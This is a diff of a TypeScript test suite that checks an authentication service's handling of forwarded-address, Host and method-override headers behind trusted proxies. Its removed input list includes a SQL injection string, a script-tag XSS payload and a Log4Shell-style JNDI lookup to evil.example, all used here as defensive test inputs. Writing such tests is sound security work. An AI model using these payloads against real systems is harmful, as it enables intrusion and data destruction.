@@ -1,140 +1,77 @@
-import { type Api, BY_HTTPS, type TokenBody } from './support/api';
+import type { TokenBody } from './support/api';
 import { startApp, type TestApp } from './support/app';
 import { sendBytes } from './support/bytes';
 import { readJws } from './support/jws';
 import { expectProblem } from './support/problem';
-import { overHttps, signInOverHttps, startProduction } from './support/production';
+import { sample } from './support/sample';
+import { currentOf } from './support/sessions';
 import { ELSEWHERE, SPOOFS } from './support/spoofs';
-import type { SessionItem, SessionPage } from './support/sessions';
 
 /** These are, but only from a trusted proxy. */
-const BELIEVED = [
-  ['X-Forwarded-For', ELSEWHERE],
-  ['X-Forwarded-Proto', 'https'],
-] as const;
-const ALL = Object.fromEntries([...SPOOFS, ...BELIEVED]);
+const BELIEVED = { 'X-Forwarded-For': ELSEWHERE, 'X-Forwarded-Proto': 'https' };
+const ALL = { ...Object.fromEntries(SPOOFS), ...BELIEVED };
 const HOSTS = ['evil.example', 'auth.example.test:8443', '127.0.0.1', '[::1]:1', 'EVIL', 'a@b', 'x y', ''];
+const PROXY = '10.9.9.9';
 
-async function currentSession(api: Api, token: string): Promise<SessionItem | undefined> {
-  const { body } = await api.get<SessionPage>('/v1/sessions', { token });
-  return body.items.find(({ current }) => current);
-}
-
-describe('behind a trusted proxy', () => {
+// Which address and which scheme a request is taken to have: src/platform/http/client.spec.ts. Each header alone: slow/forwarded.spec.ts.
+describe('what a request says of where it comes from', () => {
   let app: TestApp;
-  let api: Api;
-  let tokens: TokenBody;
 
   beforeAll(async () => {
-    app = await startProduction();
-    api = overHttps(app);
-    tokens = await signInOverHttps(app);
+    app = await startApp({ env: { TRUSTED_PROXIES: '10.0.0.0/8' } });
   });
 
   afterAll(async () => app.close());
 
-  /** @param forwarded lines of X-Forwarded-For */
-  async function addressOf(forwarded: readonly string[], headers: object = {}): Promise<string | null> {
-    const { statusCode, body } = await app.nest.inject({
+  /** The address of the session that a sign-in with these headers opens. */
+  async function addressOf(headers: Record<string, string>, remoteAddress = '127.0.0.1') {
+    const payload = await app.someone();
+    const answer = await app.nest.inject({
       method: 'POST',
-      url: '/v1/auth/refresh',
-      headers: { ...BY_HTTPS, 'x-forwarded-for': [...forwarded], ...headers },
-      payload: { refreshToken: tokens.refreshToken },
-      remoteAddress: '127.0.0.1',
+      url: '/v1/auth/login',
+      headers,
+      payload,
+      remoteAddress,
     });
-    expect(statusCode).toBe(200);
-    tokens = JSON.parse(body) as TokenBody;
-    const session = await currentSession(api, tokens.accessToken);
-    return session?.ipAddress ?? null;
+    return (await currentOf(app, answer.json<TokenBody>().accessToken)).ipAddress;
   }
 
-  it.each(SPOOFS)('%s makes no https of http', async (name, value) => {
-    const answer = await app.api.get('/v1/auth/policy', { headers: { [name]: value } });
-    expectProblem(answer, 403, 'insecure-transport');
+  it('is the address of the client where a trusted proxy says it in X-Forwarded-For', async () => {
+    expect(await addressOf({ 'x-forwarded-for': `${ELSEWHERE}, 203.0.113.7` }, PROXY)).toBe('203.0.113.7');
+    expect(await addressOf({ 'x-forwarded-for': 'garbage' }, PROXY)).toBeNull();
   });
 
-  it.each(SPOOFS)('%s does not change who the client is', async (name, value) => {
-    expect(await addressOf(['203.0.113.7'], { [name]: value })).toBe('203.0.113.7');
+  it('is not believed in any other header', async () => {
+    const headers = { ...ALL, 'X-Forwarded-For': '203.0.113.7' };
+    expect(await addressOf(headers, PROXY)).toBe('203.0.113.7');
   });
 
-  it.each([
-    ['the client', ['203.0.113.7'], '203.0.113.7'],
-    ['what a client made up before it', ['198.51.100.1, 203.0.113.7'], '203.0.113.7'],
-    ['much of that', [`${'10.0.0.1,'.repeat(500)}203.0.113.7`], '203.0.113.7'],
-    ['two proxies', ['203.0.113.7, 10.0.0.5'], '203.0.113.7'],
-    ['two proxies and a made up client', ['198.51.100.1, 203.0.113.7, 10.0.0.5'], '203.0.113.7'],
-    ['two proxies and a made up proxy', ['198.51.100.1, 10.9.9.9, 203.0.113.7, 10.0.0.5'], '203.0.113.7'],
-    ['three proxies', ['203.0.113.7,10.0.0.5,10.0.0.6'], '203.0.113.7'],
-    ['proxies of both families', ['203.0.113.7, 2001:db8:1::5, ::ffff:10.0.0.5'], '203.0.113.7'],
-    ['a proxy that nobody trusts', ['203.0.113.7, 192.0.2.9, 10.0.0.5'], '192.0.2.9'],
-    ['a client among the proxies', ['10.0.0.9'], '10.0.0.9'],
-    ['a line for each proxy', ['198.51.100.1', '203.0.113.7', '10.0.0.5'], '203.0.113.7'],
-    ['an address with a port', ['203.0.113.7:4711'], '203.0.113.7'],
-    ['IPv6', ['198.51.100.1, 2001:db8::7'], '2001:db8::7'],
-    ['IPv6 in brackets', ['[2001:db8::7]'], '2001:db8::7'],
-    ['IPv6 with a port', ['[2001:db8::7]:4711'], '2001:db8::7'],
-    ['IPv6 with a zone', ['fe80::7%eth0'], 'fe80::7'],
-    ['IPv4 in IPv6', ['::ffff:203.0.113.7'], '203.0.113.7'],
-    ['nothing', [''], '127.0.0.1'],
-    ['commas', [' , ,, '], '127.0.0.1'],
-    ['empty places', [',203.0.113.7,,10.0.0.5,'], '203.0.113.7'],
-  ])('the client is found in %s', async (_, forwarded, address) => {
-    expect(await addressOf(forwarded)).toBe(address);
+  it('is not believed of another peer', async () => {
+    expect(await addressOf(ALL)).toBe('127.0.0.1');
   });
 
-  it.each([
-    'unknown',
-    '_hidden',
-    'garbage',
-    '203.0.113.7, garbage',
-    '203.0.113.7, garbage, 10.0.0.5',
-    '203.0.113.7 10.0.0.5',
-    '203.0.113.7;10.0.0.5',
-    'for=203.0.113.7',
-    '"203.0.113.7"',
-    '999.1.1.1',
-    '127.1',
-    '0x7f.0.0.1',
-    '010.0.0.1',
-    '2130706433',
-    '203.0.113.7/32',
-    '203.0.113.7:',
-    '203.0.113.7:80:80',
-    '[2001:db8::7',
-    '2001:db8::7::1',
-    '[<b>]',
-    "'; DROP TABLE sessions; --",
-    '<script>alert(1)</script>',
-    '${jndi:ldap://evil.example/a}',
-    '\xff\xfe',
-    'a'.repeat(8_000),
-    `fe80::1%${'<'.repeat(50)}`,
-  ])('the client has no address where there should be one stands %j', async (text) => {
-    expect(await addressOf(['203.0.113.7'])).toBe('203.0.113.7');
-    expect(await addressOf([text])).toBeNull();
-  });
-
-  it.each(['X-Original-URL', 'X-Rewrite-URL'])('%s asks for no other address', async (name) => {
+  it.each(['X-Original-URL', 'X-Rewrite-URL'])('is no other address to answer in %s', async (name) => {
     const headers = { [name]: '/v1/auth/policy' };
-    expectProblem(await api.get('/v1/users/me', { headers }), 401, 'authentication-required');
-    expectProblem(await api.get('/nope', { headers }), 404, 'not-found');
+    expectProblem(await app.api.get('/v1/users/me', { headers }), 401, 'authentication-required');
+    expectProblem(await app.api.get('/nope', { headers }), 404, 'not-found');
   });
 
   it.each(['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'])(
-    '%s is no method',
+    'is no other method in %s',
     async (name) => {
-      const call = { headers: { [name]: 'DELETE' }, token: tokens.accessToken };
-      expect((await api.get('/v1/sessions', call)).status).toBe(200);
+      const { accessToken: token } = await app.signIn();
+      const call = { headers: { [name]: 'DELETE' }, token };
+      expect((await app.api.get('/v1/sessions', call)).status).toBe(200);
       expectProblem(
-        await api.post('/v1/sessions?_method=DELETE', { ...call, json: {} }),
+        await app.api.post('/v1/sessions?_method=DELETE', { ...call, json: {} }),
         405,
         'method-not-allowed',
       );
-      expect((await api.get('/v1/auth/principal', { token: tokens.accessToken })).status).toBe(200);
+      expect((await app.api.get('/v1/auth/principal', { token })).status).toBe(200);
     },
   );
 
-  it.each(HOSTS)('no link and no issuer is made of Host: %j', async (host) => {
+  it.each(HOSTS)('makes no link and no issuer of Host: %j', async (host) => {
     const spoofs = Object.entries(ALL).map(([name, value]) => `${name}: ${value}`);
     const get = async (path: string) =>
       sendBytes(
@@ -149,24 +86,8 @@ describe('behind a trusted proxy', () => {
     const { headers } = await get('/.well-known/change-password');
     expect(headers.get('location')).toBe('https://auth.example.test/account');
   });
-});
 
-describe('from anybody else', () => {
-  let app: TestApp;
-
-  beforeAll(async () => {
-    app = await startApp({ env: { TRUSTED_PROXIES: '10.0.0.0/8' } });
-  });
-
-  afterAll(async () => app.close());
-
-  it.each([...SPOOFS, ...BELIEVED])('%s does not change who the client is', async (name, value) => {
-    const json = await app.someone();
-    const { body } = await app.api.post<TokenBody>('/v1/auth/login', { json, headers: { [name]: value } });
-    expect((await currentSession(app.api, body.accessToken))?.ipAddress).toBe('127.0.0.1');
-  });
-
-  it.each(HOSTS)('tokens and cookies are the same, whatever it says, and with Host: %j', async (host) => {
+  it.each(sample(HOSTS, 3))('changes no token and no cookie, with Host: %j', async (host) => {
     const payload = await app.someone();
     const inject = async (url: string, headers: object) =>
       app.nest.inject({ method: 'POST', url, payload, headers: { host, ...headers } });
@@ -180,4 +101,16 @@ describe('from anybody else', () => {
       expect(cookies).toEqual(Array.from({ length: 3 }, () => expect.stringMatching(named)));
     }
   });
+
+  it.each(['http', 'https', undefined])(
+    'answers outside production as any other request, and without HSTS, where the proxy says %s',
+    async (scheme) => {
+      const headers = scheme === undefined ? {} : { 'x-forwarded-proto': scheme };
+      for (const url of ['/v1/auth/policy', '/health/live', '/v1/users/me', '/nope', '/docs', '/%zz']) {
+        const answer = await app.nest.inject({ url, headers, remoteAddress: PROXY });
+        expect(answer.statusCode).not.toBe(403);
+        expect(answer.headers['strict-transport-security']).toBeUndefined();
+      }
+    },
+  );
 });
